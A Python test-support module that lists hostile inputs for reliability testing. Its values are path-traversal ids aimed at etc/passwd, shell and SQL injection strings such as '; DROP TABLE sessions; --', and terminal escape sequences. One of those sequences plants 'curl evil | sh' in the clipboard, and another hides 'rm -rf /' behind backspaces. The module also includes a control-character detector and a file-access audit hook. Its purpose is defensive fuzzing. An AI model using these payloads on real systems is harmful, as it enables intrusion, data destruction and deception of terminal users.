"""Texts that an attacker would send: ids that are paths, and what a terminal would obey.

`python -m tests.reliability.tools.hostile ids` (or `terminal`) prints them, escaped, one a line.
"""

from __future__ import annotations

import argparse
import os
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from itertools import product
from pathlib import Path
from uuid import UUID

_ONE = "0190a000-0000-7000-8000-000000000001"
_TARGETS = ("etc/passwd", "victim")
_STEPS = (
    "../", "..\\", "..//", "..;/", "....//", "%2e%2e/", "%2e%2e%2f", "..%2f", "..%5c", "%252e%252e%252f", "..%c0%af",
    "..%00/", "\u2025/", "\uff0e\uff0e/", "/", "//", "\\\\?\\", "\\\\host\\share\\", "file:///", "~/", "~root/",
    "C:\\", "/proc/self/", "/dev/",
)  # fmt: skip
_OTHERS = (
    "", " ", ".", "..", "...", "/", "\\", "%", "%%", "_", "*", "?", "-", "--", "--help", "-rf", "@", "#", "~", "$HOME",
    "${HOME}", "`id`", "$(id)", "; id", "| id", "&& id", "\0", "a\0b", f"{_ONE}\0", f"{_ONE}\0.db", f"\0{_ONE}",
    "%00", "\n", "\r\n", f"{_ONE}\r\nX: y", "\t", "\x1b[2J", "\x7f", "\x85", "\u2028", "\u202e", "\ufeff", "\ud800",
    "' OR '1'='1", "'; DROP TABLE sessions; --", '" OR ""="', "1; ATTACH 'victim' AS v", "' UNION SELECT 1--",
    "%' --", "_%", "x' || load_extension('victim') || '", "\\'", "';vacuum into 'victim", "last\0", "LAST", "null",
    "None", "undefined", "NaN", "true", "[]", "{}", "0", "-1", "1e999", "9" * 5000, "0x1F", "x" * 64, "x" * 300,
    "x" * 5000, "../" * 2000, "a/" * 2000, "\U0001f4a3" * 200, "{{7*7}}", "${7*7}", "<script>alert(1)</script>",
    "%s%s%s%n", "%(id)s", "{id}", "{0.__class__}", "CON", "NUL", "COM1", "aux.db", "con.txt::$DATA", "name:stream",
    f"{_ONE}.db", f"{_ONE}/", f"{_ONE}/..", f"../{_ONE}", f"{_ONE}\\", f" {_ONE} ", f"{_ONE}-wal", f"{_ONE[:-1]}",
    f"{_ONE}0", f"{_ONE[:-1]}g", _ONE.replace("-", "/"), _ONE.replace("-", "."), _ONE.replace("-", "\0"),
    f"{{{_ONE}", f"{_ONE}}}", f"urn:uuid:{_ONE}/../x", "urn:uuid:", "{}-{}", f"{_ONE},{_ONE}", f"({_ONE})",
    "".join(chr(0xFF10 + int(digit, 16)) if digit.isdigit() else digit for digit in _ONE),
    "".join(chr(0x0660 + int(digit, 16)) if digit.isdigit() else digit for digit in _ONE),
    "".join(chr(0x1D7CE + int(digit, 16)) if digit.isdigit() else digit for digit in _ONE),
    _ONE.replace("0", "\u041e"), _ONE.replace("-", "\u2010"), _ONE.replace("-", "_"), _ONE.replace("0", "O"),
    _ONE.replace("0000-", "+000-", 1), _ONE.replace("-0000-", "-0x00-"), str(UUID(int=0)),
    str(UUID(int=(1 << 128) - 1)),
)  # fmt: skip

IDS: tuple[str, ...] = tuple(
    dict.fromkeys([*(step * times + target for step, times, target in product(_STEPS, (1, 4), _TARGETS)), *_OTHERS])
)
"""Over 200 ids that are none, or are spelt so that somebody might take them for another."""

TERMINAL: dict[str, str] = {
    "clear": "\x1b[2J\x1b[H",
    "colour": "\x1b[31;5m",
    "title": "\x1b]0;pwned\x07",
    "title by ST": "\x1b]2;pwned\x1b\\",
    "link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
    "colour of the palette": "\x1b]4;1;rgb:00/00/00\x07",
    "answerback": "\x05",
    "report the cursor": "\x1b[6n",
    "report the title": "\x1b[21t",
    "device control": '\x1bP$q"p\x1b\\',
    "8-bit CSI": "\x9b2J",
    "8-bit OSC": "\x9d0;pwned\x9c",
    "8-bit DCS": "\x90q\x9c",
    "other screen": "\x1b[?1049h",
    "character set": "\x0e\x1b(0",
    "reset": "\x1bc",
    "scroll region": "\x1b[1;2r",
    "insert": "\x1b[4h",
    "kitty": "\x1b_Gf=24;AAAA\x1b\\",
    "sixel": "\x1bPq#0~~\x1b\\",
    "iTerm": "\x1b]1337;File=inline=1:AAAA\x07",
    "bell": "\a",
    "backspaces": "rm -rf /\b\b\b\b\b\b\b\bls",
    "carriage return": "all is well\rerror",
    "vertical": "\x0b\x0c",
    "delete": "\x7f",
    "next line": "\x85",
    "right to left": "\u202egnp.exe",
    "isolates": "\u2066\u2067\u2068x\u2069",
    "embeddings": "\u202a\u202b\u202c\u202d",
    "marks": "\u200e\u200f",
    "separators": "\u2028\u2029",
    "byte order": "\ufeff",
    "surrogate": "\ud800",
    "NUL": "a\0b",
}


def obeyed(text: str) -> list[str]:
    """What in a text a terminal might obey: control characters but for the ends of lines and tabs, and marks that turn
    the direction of writing."""
    return sorted({
        character for character in text
        if (ord(character) < 32 and character not in "\n\t") or 0x7F <= ord(character) <= 0x9F
        or character in "\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff"
    })  # fmt: skip


class Touched:
    """Which files this process touches, as Python's own audit tells. A hook stays for ever, so there is one."""

    _now: set[str] | None = None
    _hooked = False

    @classmethod
    @contextmanager
    def files(cls) -> Iterator[set[str]]:
        """The absolute paths that are opened, made, renamed or removed in the block."""
        if not cls._hooked:
            cls._hooked = True
            sys.addaudithook(cls._hear)
        cls._now = set()
        try:
            yield cls._now
        finally:
            cls._now = None

    @classmethod
    def _hear(cls, event: str, arguments: tuple[object, ...]) -> None:
        seen = cls._now
        if seen is None or event not in _TOUCHING:
            return
        for argument in arguments[:2]:
            if isinstance(argument, (str, bytes, os.PathLike)):
                name = os.fsdecode(argument)
                if name.startswith("file:"):
                    name = name.removeprefix("file://").partition("?")[0]
                seen.add(str(Path(os.path.abspath(name))))  # noqa: PTH100 - resolve() would open files itself


_TOUCHING = frozenset(
    "open sqlite3.connect os.mkdir os.remove os.rename os.rmdir os.link os.symlink os.truncate os.chmod os.chown "
    "os.listdir os.scandir".split()
)


def main() -> None:
    """Prints the texts."""
    parser = argparse.ArgumentParser(description="Print hostile texts, escaped, one a line.")
    parser.add_argument("kind", choices=["ids", "terminal"])
    for text in IDS if parser.parse_args().kind == "ids" else TERMINAL.values():
        print(ascii(text))


if __name__ == "__main__":
    main()
